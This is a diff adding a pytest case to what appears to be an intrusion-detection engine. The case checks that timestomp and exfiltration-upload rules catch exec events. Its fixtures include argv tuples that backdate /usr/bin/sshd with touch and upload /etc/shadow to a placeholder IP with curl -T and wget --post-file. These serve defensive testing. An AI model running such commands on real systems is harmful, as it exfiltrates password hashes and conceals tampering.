@@ -457,3 +457,22 @@ def test_the_engine_s_direct_call_of_a_rule_finds_what_its_on_event_finds() -> N
     for r in engine.rules:
         for t in r.event_types:
             assert any(e[0] is r for e in engine._routes[t]), (r.name, t)
+
+
+@pytest.mark.parametrize("exe, argv", [
+    ("/usr/bin/touch", ("touch", "-d", "2019-01-01", "/usr/bin/sshd")),
+    ("/usr/bin/curl", ("curl", "-T", "/etc/shadow", "https://203.0.113.9/")),
+    ("/usr/bin/wget", ("wget", "--post-file=/etc/shadow", "https://203.0.113.9/")),
+    ("/usr/bin/wget2", ("wget2", "--post-file", "/etc/shadow", "https://203.0.113.9/")),
+])
+def test_exec_interests_of_the_named_tool_rules_reach_each_tool(
+        exe: str, argv: tuple[str, ...]) -> None:
+    """timestomp and exfil_upload declare the tools their match() names (s24): an exec of
+    each (wget2 is in no recorded fixture) still reaches the rule through the engine, and
+    finds what the rule finds when called itself."""
+    rule = {"touch": "behavior.timestomp"}.get(argv[0], "behavior.exfil_upload")
+    ev = exec_(4242, exe, 1.0, argv)
+    got = run(Engine(behavior_rules()), ProcessTable(), [ev])
+    direct = next(r for r in behavior_rules() if r.name == rule)
+    assert direct.on_event(ev, RuleContext(ProcessTable()))
+    assert [f.rule for f in got if f.rule == rule] == [rule]
